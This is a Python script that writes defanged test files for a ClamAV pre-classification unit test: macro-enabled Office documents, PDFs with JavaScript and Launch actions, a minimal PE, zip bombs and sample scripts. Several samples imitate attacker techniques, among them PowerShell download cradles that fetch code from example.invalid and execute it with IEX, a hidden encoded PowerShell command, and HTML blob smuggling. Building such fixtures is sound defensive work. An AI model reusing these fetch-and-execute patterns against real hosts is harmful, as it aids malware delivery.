#!/usr/bin/python3
"""Writes the ClamAV pre-classification fixtures of tests/unit/pipeline/preclass_test.cpp here.

Run with /usr/bin/python3 (standard library only). Output is deterministic. Every file is small,
harmless (no code in it would do anything: the URLs are example.invalid, the PE only returns) and
built to the format's specification where ClamAV reads it: the VBA projects follow [MS-OVBA] (a
`dir` stream ClamAV decompresses and walks, modules at their offset), the compound files [MS-CFB]
(the writer of ../filetypes/make.py), the Excel 4.0 macro sheet [MS-XLS] BoundSheet8, the PDFs
ISO 32000 objects. Pairs differ only in the dynamic part (macro vs none, JavaScript vs none), so
a rule that fires on both is caught. The bombs expand past the limits the test sets.
"""

import importlib.util
import io
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location("filetypes_make", os.path.join(HERE, "..", "filetypes", "make.py"))
ft = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(ft)

D, S = ft.D, ft.S
DATE = ft.DATE


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def zip_bytes(entries):
    return ft.zip_bytes(entries)


# --- VBA projects ([MS-OVBA]) -------------------------------------------------------------------

def ovba_compress(data):
    """[MS-OVBA] 2.4.1 CompressedContainer with literal tokens only: a signature byte, then chunks
    of up to 4096 decompressed bytes, each a header (size - 3, signature 0b011, compressed flag)
    and token sequences of one flag byte (0: eight literals) and up to eight bytes."""
    out = bytearray(b"\x01")
    for start in range(0, max(len(data), 1), 4096):
        chunk = data[start:start + 4096]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body += b"\x00" + chunk[i:i + 8]
        out += struct.pack("<H", (len(body) + 2 - 3) | 0xB000) + body
    return bytes(out)


def rec(rid, payload):
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_dir(modules):
    """The decompressed `dir` stream ([MS-OVBA] 2.3.4.2): project information, no references,
    one MODULE record per (name, kind) with its source at offset 0 of its stream."""
    out = bytearray()
    out += rec(0x0001, struct.pack("<I", 1))           # PROJECTSYSKIND: Win32
    out += rec(0x0002, struct.pack("<I", 0x409))       # PROJECTLCID
    out += rec(0x0014, struct.pack("<I", 0x409))       # PROJECTLCIDINVOKE
    out += rec(0x0003, struct.pack("<H", 1252))        # PROJECTCODEPAGE
    out += rec(0x0004, b"VBAProject")                  # PROJECTNAME
    out += rec(0x0005, b"") + rec(0x0040, b"")         # PROJECTDOCSTRING (MBCS, Unicode)
    out += rec(0x0006, b"") + rec(0x003D, b"")         # PROJECTHELPFILEPATH (1, 2)
    out += rec(0x0007, struct.pack("<I", 0))           # PROJECTHELPCONTEXT
    out += rec(0x0008, struct.pack("<I", 0))           # PROJECTLIBFLAGS
    out += struct.pack("<HIIH", 0x0009, 4, 1, 0)       # PROJECTVERSION: Reserved=4, major, minor
    out += rec(0x000C, b"") + rec(0x003C, b"")         # PROJECTCONSTANTS (MBCS, Unicode)
    out += rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    out += rec(0x0013, struct.pack("<H", 0xFFFF))      # PROJECTCOOKIE
    for name, kind in modules:
        n = name.encode()
        out += rec(0x0019, n) + rec(0x0047, name.encode("utf-16-le"))   # MODULENAME, Unicode
        out += rec(0x001A, n) + rec(0x0032, name.encode("utf-16-le"))   # MODULESTREAMNAME
        out += rec(0x001C, b"") + rec(0x0048, b"")                      # MODULEDOCSTRING
        out += rec(0x0031, struct.pack("<I", 0))                        # MODULEOFFSET
        out += rec(0x001E, struct.pack("<I", 0))                        # MODULEHELPCONTEXT
        out += rec(0x002C, struct.pack("<H", 0xFFFF))                   # MODULECOOKIE
        out += rec(0x0021 if kind == "procedural" else 0x0022, b"")     # MODULETYPE
        out += rec(0x002B, b"")                                         # module terminator
    out += struct.pack("<HI", 0x0010, 0)               # dir terminator
    return bytes(out)


MACRO_SOURCE = (
    'Attribute VB_Name = "Module1"\r\n'
    "Sub AutoOpen()\r\n"
    '    MsgBox "This document was opened."\r\n'
    "End Sub\r\n")


def vba_storage(source):
    """The VBA storage and PROJECT stream of a project holding one procedural module."""
    project = ('ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
               'HelpContextID="0"\r\nVersionCompatible32="393222000"\r\nCMG=""\r\nDPB=""\r\nGC=""\r\n\r\n'
               "[Host Extender Info]\r\n").encode()
    vba = [("dir", ovba_compress(vba_dir([("Module1", "procedural")]))),
           ("_VBA_PROJECT", bytes.fromhex("CC61FFFF000000")),   # [MS-OVBA] 2.3.4.1, no performance cache
           ("Module1", ovba_compress(source.encode()))]
    return [("VBA", vba), ("PROJECT", project), ("PROJECTwm", b"Module1\0M\0o\0d\0u\0l\0e\0001\0\0\0\0\0")]


def vba_project_bin(source=MACRO_SOURCE):
    return ft.cfb(vba_storage(source))


WORD_CLSID = ft.clsid(0x00020906)
EXCEL_CLSID = ft.clsid(0x00020820)


def word_streams():
    return [("WordDocument", ft.noise(700, "wd")), ("1Table", ft.noise(300, "tbl")),
            ("\x05SummaryInformation", ft.summary())]


# --- Excel 4.0 macro sheet ([MS-XLS]) ---------------------------------------------------------

def biff(rtype, data):
    return struct.pack("<HH", rtype, len(data)) + data


def workbook_stream(sheets):
    """A BIFF8 workbook globals substream: BOF, one BoundSheet8 per (name, hsState, dt), EOF."""
    out = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    for name, state, kind in sheets:
        out += biff(0x0085, struct.pack("<IBB", 0, state, kind) + struct.pack("<BB", len(name), 0) + name.encode())
    return out + biff(0x000A, b"")


# --- PE ---------------------------------------------------------------------------------------

def pe32(body=b"\xC3"):
    """A PE32 i386 GUI program of one section, `body` (by default a lone `ret` at the entry point),
    padded to 512-byte file and 4 KiB memory alignment: the smallest file ClamAV parses as a PE
    (CL_TYPE_MSEXE with a PE object in its metadata)."""
    raw = (len(body) + 0x1FF) & ~0x1FF
    virt = (raw + 0xFFF) & ~0xFFF
    dos = struct.pack("<2s58xI", b"MZ", 0x40)
    coff = struct.pack("<HHIIIHH", 0x014C, 1, 0, 0, 0, 224, 0x0102)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x010B, 1, 0, raw, 0, 0, 0x1000, 0x1000, 0x1000 + virt,
                      0x400000, 0x1000, 0x200, 4, 0, 0, 0, 4, 0, 0, 0x1000 + virt, 0x200, 0, 2, 0,
                      0x100000, 0x1000, 0x100000, 0x1000, 0, 16) + b"\0" * 128
    section = struct.pack("<8sIIIIIIHHI", b".text", virt, 0x1000, raw, 0x200, 0, 0, 0, 0, 0x60000020)
    head = (dos + b"PE\0\0" + coff + opt + section).ljust(0x200, b"\0")
    return head + body.ljust(raw, b"\xCC")


def ole10native(name, payload):
    """[MS-OLEDS] 2.3.6 OLENativeStream of a Packager object: the embedded file as a shell
    "package" (label, source path, temp path), as Word writes one for a file dragged in."""
    body = (struct.pack("<H", 2) + name.encode() + b"\0" + ("C:\\" + name).encode() + b"\0" + struct.pack("<HH", 0, 3) +
            struct.pack("<I", len("C:\\t\\" + name) + 1) + ("C:\\t\\" + name).encode() + b"\0" +
            struct.pack("<I", len(payload)) + payload)
    return struct.pack("<I", len(body)) + body


# --- PDF --------------------------------------------------------------------------------------

def pdf(objects):
    """ISO 32000 file: the numbered objects given, a cross-reference table and a trailer."""
    out = bytearray(b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data, extra=b""):
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_doc(catalog_extra=b"", page_extra=b"", more=()):
    content = b"BT /F1 12 Tf 72 720 Td (Quarterly figures) Tj ET"
    objects = [b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
               b" /Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
               stream(content),
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    return pdf(objects + list(more))


# --- SWF --------------------------------------------------------------------------------------

def swf():
    """An uncompressed SWF 10 movie: header, a 0-bit RECT (5 bits of nbits = 0, padded), frame
    rate 12, one frame, ShowFrame, End."""
    body = b"\x00" + struct.pack("<HH", 12 << 8, 1) + struct.pack("<H", 1 << 6) + struct.pack("<H", 0)
    return b"FWS" + bytes([10]) + struct.pack("<I", 8 + len(body)) + body


# --- bombs ------------------------------------------------------------------------------------

def zeros_zip(name, size):
    """A zip of one member of `size` zero bytes, deflated at level 9 in 1 MiB steps."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    raw = bytearray()
    for _ in range(size >> 20):
        raw += comp.compress(block)
    raw += comp.flush()
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(block, crc)
    n = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(n), 0) + n
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(n),
                          0, 0, 0, 0, 0o644 << 16, 0) + n
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(raw), 0)
    return local + bytes(raw) + central + end


def nested(inner, name, levels):
    data = inner
    for level in range(levels):
        data = zip_bytes([("%s%d.zip" % (name, level), data, D)])
    return data


# --- the fixtures -----------------------------------------------------------------------------

CRADLE = (b"# refresh the report\r\n"
          b"$c = New-Object System.Net.WebClient\r\n"
          b"IEX ($c.DownloadString('http://example.invalid/report.ps1'))\r\n")

PLAIN_TEXT = b"Hello,\n\nthe quarterly figures are attached. Nothing in this note runs.\n\nRegards\n"


def main():
    # Office: a macro document and the same document without its VBA project.
    write("macro.docm", ooxml_with_vba("word", vba_project_bin()))
    write("plain.docx", ft.ooxml("word", False))
    write("macro.xlsm", ooxml_with_vba("xl", vba_project_bin()))
    write("macro.doc", ft.cfb([("Macros", vba_storage(MACRO_SOURCE))] + word_streams(), WORD_CLSID))
    write("plain.doc", ft.cfb(word_streams(), WORD_CLSID))
    # Excel 4.0: a hidden macro sheet beside a worksheet; the same workbook with two worksheets.
    write("xlm.xls", ft.cfb([("Workbook", workbook_stream([("Sheet1", 0, 0), ("Macro1", 1, 1)]))], EXCEL_CLSID))
    write("plain.xls", ft.cfb([("Workbook", workbook_stream([("Sheet1", 0, 0), ("Sheet2", 0, 0)]))], EXCEL_CLSID))
    # Executables: a PE alone, in a zip, and packaged into a Word document as an OLE object.
    exe = pe32()
    write("setup.exe", exe)
    write("pe.zip", zip_bytes([("invoice.pdf.exe", exe, D), ("readme.txt", b"see attached\n", D)]))
    package = ft.cfb([("\x01Ole10Native", ole10native("setup.exe", exe)), ("\x01CompObj", ft.noise(60, "pk"))],
                     ft.clsid(0x0003000C))
    write("pe_object.docx", ooxml_extra("word", [("word/embeddings/oleObject1.bin", package, D)]))
    # PDFs: plain; JavaScript run at open; /Launch; an embedded file.
    write("plain.pdf", pdf_doc())
    write("js.pdf", pdf_doc(b" /OpenAction 6 0 R", more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\);) >>"]))
    write("launch.pdf", pdf_doc(page_extra=b" /AA << /O 6 0 R >>",
                                more=[b"<< /Type /Action /S /Launch /F (calc.exe) >>"]))
    write("attach.pdf", pdf_doc(b" /Names << /EmbeddedFiles << /Names [(notes.txt) 6 0 R] >> >>",
                                more=[b"<< /Type /Filespec /F (notes.txt) /EF << /F 7 0 R >> >>",
                                      stream(PLAIN_TEXT, b" /Type /EmbeddedFile")]))
    write("movie.swf", swf())
    # Text: plain, and scripts: a PowerShell download cradle (ours), a VBScript with WScript.Shell.
    write("notes.txt", PLAIN_TEXT)
    write("cradle.ps1", CRADLE)
    write("cradle.txt", CRADLE)
    write("run.vbs", b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "notepad.exe", 1, False\r\n')
    write("iwr.ps1", b"$r = Invoke-WebRequest -Uri http://example.invalid/next.ps1\r\niex $r.Content\r\n")
    write("encoded.bat", b"@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -enc VwByAGkAdABlAC0ASABvAHMAdAA=\r\n")
    write("smuggle.html", b"<html><body><script>\nvar d = atob('SGVsbG8=');\nvar b = new Blob([d]);\n"
                          b"var a = document.createElement('a'); a.href = URL.createObjectURL(b);\n"
                          b"a.download = 'invoice.zip'; a.click();\n</script></body></html>\n")
    write("page.html", b"<html><body><p>Your invoice is attached.</p>"
                       b"<script>document.title = 'Invoice';</script></body></html>\n")
    write("macro_in.zip", zip_bytes([("report.docm", ooxml_with_vba("word", vba_project_bin()), D)]))
    # Bombs, against the test's limits (max_file_bytes 1 MiB, max_scan_bytes 2 MiB, max_recursion 8,
    # max_files 10): 64 MiB of zeros in 3 zips (a member past max_file_bytes); 4 members of 768 KiB
    # of zeros (each under max_file_bytes, together past max_scan_bytes); 40 levels of zips around
    # a note (past max_recursion); 50 members then a script (past max_files).
    write("ratio_bomb.zip", nested(zeros_zip("zeros.bin", 64 << 20), "level", 3))
    write("scan_bomb.zip", zip_bytes([("part%d.bin" % i, b"\0" * (768 << 10), D) for i in range(4)]))
    write("depth_bomb.zip", nested(zip_bytes([("note.txt", PLAIN_TEXT, D)]), "depth", 40))
    write("files_bomb.zip", zip_bytes([("m%03d.txt" % i, b"member %d\n" % i, D) for i in range(50)] +
                                      [("last.ps1", CRADLE, D)]))


def ooxml_with_vba(kind, vba_bin):
    """ft.ooxml's macro-enabled package with a real vbaProject.bin instead of noise."""
    data = ft.ooxml(kind, True, vba=False)
    return ooxml_extra(kind, [(kind + "/vbaProject.bin", vba_bin, D)], data=data)


def ooxml_extra(kind, extra, data=None):
    """Copies an OOXML package (a plain one by default) and appends members."""
    data = data if data is not None else ft.ooxml(kind, False)
    src = zipfile.ZipFile(io.BytesIO(data))
    entries = [(i.filename, src.read(i), i.compress_type) for i in src.infolist()]
    return zip_bytes(entries + list(extra))


if __name__ == "__main__":
    main()
